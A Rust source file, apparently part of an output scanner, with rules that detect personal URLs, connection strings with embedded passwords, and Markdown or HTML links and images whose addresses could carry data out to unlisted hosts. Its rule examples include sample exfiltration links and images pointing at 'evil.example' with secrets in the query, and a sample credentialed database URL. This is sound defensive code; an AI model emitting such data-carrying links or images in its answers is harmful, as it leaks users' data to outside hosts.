//! Addresses of pages: as personal data, with credentials in them, and as ways out for data.

use super::{Anchor, bytes};
use crate::{
    Group, Kind, Rule, Severity,
    view::{Tail, View, Window},
};

static URL: Rule = Rule::built_in(
    "url",
    Kind::Url,
    Severity::Low,
    "The address of a page may be somebody's own.",
    &["My website is http://www.visualtrips.hu/"],
);
static CREDENTIALS: Rule = Rule::built_in(
    "connection_string",
    Kind::ConnectionString,
    Severity::Critical,
    "A user and a password stand in the address: whoever reads it can connect.",
    &["postgres://app:s3cr3tpw@db.internal:5432/app"],
);
static LINK: Rule = Rule::built_in(
    "link",
    Kind::Link,
    Severity::Medium,
    "A link in an answer can carry data out in its address. Its host is not in `allowed_hosts`.",
    &["see [the report](https://evil.example/?q=secret)", "[1]: https://evil.example/x"],
);
static IMAGE: Rule = Rule::built_in(
    "image",
    Kind::Image,
    Severity::High,
    "An image is fetched without a click, and its address can carry data out. Its host is not in \
     `allowed_hosts`.",
    &["![x](https://evil.example/?q=secret)", "<img src=\"https://evil.example/a.png\">"],
);

pub(super) const RULES: &[&Rule] = &[&URL, &CREDENTIALS, &LINK, &IMAGE];

/// Bytes of a scheme at most.
const SCHEME_BYTES_MAX: usize = 24;

pub(super) fn anchors() -> impl Iterator<Item = Anchor> {
    let anchor = |text, group, judge| Anchor { text, group, back: SCHEME_BYTES_MAX, judge };
    [
        anchor("://", Group::Pii, personal as super::Judge),
        anchor("www.", Group::Pii, personal),
        anchor("://", Group::Secret, credentials),
        anchor("//", Group::Output, outward),
    ]
    .into_iter()
}

/// Characters of an address; brackets and quotes end it, because they close what it stands in.
fn in_url(byte: u8) -> bool {
    byte.is_ascii_graphic() && !b"\"'<>()[]{}|\\^`".contains(&byte) || byte >= 0x80
}

/// Where the scheme before `://` starts.
fn scheme(view: &View<'_>, at: usize, window: Window) -> usize {
    let before = view.slice(window.first, at);
    at - bytes::run_back(before, |byte| byte.is_ascii_alphanumeric() || b"+.-".contains(&byte))
}

/// The end of an address that goes on from `from`, without the stop of a sentence, and its tail.
fn end_of(view: &View<'_>, from: usize, window: Window) -> (usize, Tail) {
    let rest = view.slice(from, window.right);
    let length = bytes::run(rest, in_url);
    if from + length >= window.right && view.text.len() > window.right {
        return (from + length, Tail::Bytes(in_url));
    }
    let mut rest = rest.get(..length).unwrap_or(&[]);
    while let [shorter @ .., b'.' | b',' | b';' | b':' | b'!' | b'?'] = rest {
        rest = shorter;
    }
    (from + rest.len(), Tail::None)
}

fn personal(view: &mut View<'_>, at: usize, end: usize, window: Window) {
    let scheme_start = scheme(view, at, window);
    let start = if view.slice(at, end) == b"://" {
        let name = view.slice(scheme_start, at);
        if !name.eq_ignore_ascii_case(b"http") && !name.eq_ignore_ascii_case(b"https") {
            return;
        }
        scheme_start
    } else if bytes::is_word(view.before(at))
        || matches!(view.before(at), b'/' | b'.' | b'-' | b'@')
    {
        return;
    } else {
        at
    };
    let (to, tail) = end_of(view, end, window);
    if view.slice(end, to).contains(&b'.') {
        view.found_with(start, to, &URL, tail);
    }
}

fn credentials(view: &mut View<'_>, at: usize, end: usize, window: Window) {
    let start = scheme(view, at, window);
    let rest = view.slice(end, window.right);
    let length = bytes::run(rest, |byte| in_url(byte) && byte != b'/');
    let authority = rest.get(..length).unwrap_or(&[]);
    let Some(sign) = authority.iter().rposition(|&byte| byte == b'@') else { return };
    let user = authority.get(..sign).unwrap_or(&[]);
    let Some(colon) = user.iter().position(|&byte| byte == b':') else { return };
    let password = user.get(colon + 1..).unwrap_or(&[]);
    if start == at || password.is_empty() || super::secret::is_placeholder(password) {
        return;
    }
    let (to, tail) = end_of(view, end, window);
    view.found_with(start, to.max(end + sign + 1), &CREDENTIALS, tail);
}

/// An address with a host behind `//`: in Markdown, in HTML, or by itself.
fn outward(view: &mut View<'_>, at: usize, end: usize, window: Window) {
    let start = match view.before(at) {
        b':' => scheme(view, at - 1, window),
        b'(' | b'"' | b'\'' | b'<' | b'=' | b' ' | b'/' => at,
        _ => return,
    };
    // A bare `//` is an address only where something is linked: else it is a comment in code.
    let linked = context(view, start, window);
    if start == at && linked == Context::Plain || view.at(end) == b'/' {
        return;
    }
    let rest = view.slice(end, window.right);
    let length = bytes::run(rest, |byte| in_url(byte) && !b"/?#\\".contains(&byte));
    let host = rest.get(..length).unwrap_or(&[]);
    let host = host.rsplit(|&byte| byte == b'@').next().unwrap_or(&[]);
    if host.is_empty() || !host.iter().any(u8::is_ascii_alphanumeric) {
        return;
    }
    let (to, tail) = end_of(view, end, window);
    let rule = if linked == Context::Image { &IMAGE } else { &LINK };
    view.found_with(start, to, rule, tail);
}

/// What an address stands in.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Context {
    Plain,
    Link,
    Image,
}

fn context(view: &View<'_>, start: usize, window: Window) -> Context {
    let before = view.slice(window.left, start);
    let trimmed = before.trim_ascii_end();
    let attribute = match trimmed {
        [rest @ .., b'"' | b'\''] => rest,
        _ => trimmed,
    };
    let attribute = attribute.trim_ascii_end();
    let names = |name: &[u8]| {
        attribute.strip_suffix(b"=").is_some_and(|rest| {
            let rest = rest.trim_ascii_end();
            rest.len() >= name.len()
                && rest
                    .get(rest.len() - name.len()..)
                    .is_some_and(|tail| tail.eq_ignore_ascii_case(name))
        })
    };
    let fetched: [&[u8]; 6] = [b"src", b"srcset", b"background", b"poster", b"data", b"xlink:href"];
    if fetched.iter().any(|name| names(name)) || attribute.to_ascii_lowercase().ends_with(b"url(") {
        return Context::Image;
    }
    let linking: [&[u8]; 4] = [b"href", b"action", b"formaction", b"content"];
    if linking.iter().any(|name| names(name)) {
        return Context::Link;
    }
    let unbracketed = trimmed.strip_suffix(b"<").unwrap_or(trimmed);
    if let Some(label) = unbracketed.strip_suffix(b"(").filter(|label| label.ends_with(b"]")) {
        let open = label.iter().rposition(|&byte| byte == b'[');
        let image = open.is_some_and(|open| open > 0 && label.get(open - 1) == Some(&b'!'));
        return if image { Context::Image } else { Context::Link };
    }
    if unbracketed.trim_ascii_end().ends_with(b"]:") || trimmed.ends_with(b"<") {
        return Context::Link;
    }
    Context::Plain
}

/// The host of an address, in lower case, without user and port.
pub(crate) fn host_of(address: &str) -> Option<String> {
    let behind = address.split_once("//")?.1;
    let authority = behind.split(['/', '?', '#', '\\']).next()?;
    let host = authority.rsplit('@').next()?;
    let host = host.split(':').next()?.trim_end_matches('.');
    Some(host.to_ascii_lowercase())
}
